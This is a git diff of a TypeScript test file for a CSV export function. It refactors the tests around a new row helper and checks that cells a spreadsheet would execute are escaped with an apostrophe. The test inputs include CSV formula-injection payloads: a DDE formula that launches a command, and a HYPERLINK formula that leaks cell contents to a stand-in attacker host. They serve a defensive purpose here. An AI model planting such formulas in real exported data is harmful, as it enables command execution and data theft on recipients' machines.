@@ -1,6 +1,6 @@
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
-import { type Cell, csvByteOrderMark, csvRow, toCsv } from './csv.ts'
+import { type Cell, toCsv } from './csv.ts'
 
 /** Reads RFC 4180 without a library: quoted fields may hold anything, a quote is written twice. */
 function parseCsv(text: string): string[][] {
@@ -16,6 +16,11 @@ function parseCsv(text: string): string[][] {
     row = []
   }
   return rows
+}
+
+/** One row of a file, as it is written behind mark and header. */
+function rowOf(cells: readonly Cell[]): string {
+  return toCsv(['header'], [cells]).slice('\uFEFFheader\r\n'.length)
 }
 
 describe('toCsv', () => {
@@ -35,14 +40,6 @@ describe('toCsv', () => {
 
   test('is UTF-8 with its mark', () => {
     expect([...Buffer.from(toCsv(['é'], []))].slice(0, 5)).toEqual([0xef, 0xbb, 0xbf, 0xc3, 0xa9])
-  })
-
-  test('equals its rows written one by one', () => {
-    const rows: Cell[][] = [
-      ['a', 1],
-      [null, '=1'],
-    ]
-    expect(csvByteOrderMark + csvRow(['x', 'y']) + rows.map(csvRow).join('')).toBe(toCsv(['x', 'y'], rows))
   })
 
   test('loses nothing, whatever the text', () => {
@@ -77,15 +74,15 @@ describe('a cell that a spreadsheet would run', () => {
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("https://evil.example?"&A1,"x")',
   ])('%j gets an apostrophe', (text) => {
-    expect(parseCsv(csvRow([text]))).toEqual([[`'${text}`]])
+    expect(parseCsv(rowOf([text]))).toEqual([[`'${text}`]])
   })
 
   test.each(['a=1', '1-2', 'a@b.example', "'x", ' a', '3', '(=1)'])('%j is none', (text) => {
-    expect(parseCsv(csvRow([text]))).toEqual([[text]])
+    expect(parseCsv(rowOf([text]))).toEqual([[text]])
   })
 
   test('is none when it is a number', () => {
-    expect(csvRow([-1, 1e21, 0, 0.1])).toBe('-1,1e+21,0,0.1\r\n')
+    expect(rowOf([-1, 1e21, 0, 0.1])).toBe('-1,1e+21,0,0.1\r\n')
   })
 
   test('may be in the header too', () => {
